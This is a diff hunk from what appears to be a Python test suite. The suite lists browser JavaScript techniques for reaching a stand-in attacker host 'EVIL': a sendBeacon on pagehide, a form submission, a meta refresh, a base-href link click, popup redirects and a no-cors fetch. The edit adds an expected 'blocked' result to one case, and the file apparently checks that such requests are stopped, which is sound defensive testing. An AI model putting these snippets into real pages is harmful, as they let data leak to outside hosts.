@@ -96,7 +96,7 @@ LISTS = [
     press("a beacon as the page goes", "addEventListener('pagehide', () => navigator.sendBeacon('EVIL/x')); location = '/next'", calls=(*GO, *BACK)),
     press("a form", _FORM.format("EVIL/x"), tells=_ELSEWHERE),
     press("a meta element", "document.head.append(Object.assign(document.createElement('meta'), {httpEquiv: 'refresh', content: '0; url=EVIL/x'}))", calls=(*GO, *BACK)),
-    Attack("a header of the server", "", calls=(("goto", {"url": "SHOP/MARK/refresh"}), *BACK)),
+    Attack("a header of the server", "", calls=(("goto", {"url": "SHOP/MARK/refresh"}), *BACK), tells="blocked: 1 request"),
     press("a base", "document.head.append(Object.assign(document.createElement('base'), {href: 'EVIL/'})); const a = document.createElement('a'); a.href = 'x'; document.body.append(a); a.click()", tells=_ELSEWHERE, calls=(*GO, *BACK)),
     press("a popup that goes on", "const w = window.open('about:blank'); w.location = 'EVIL/x'", alone=True),
     press("a popup of a popup", "const w = window.open('/next'); w.onload = () => w.open('EVIL/x'); setTimeout(() => w.fetch('EVIL/y', {mode: 'no-cors'}), 50)", alone=True),
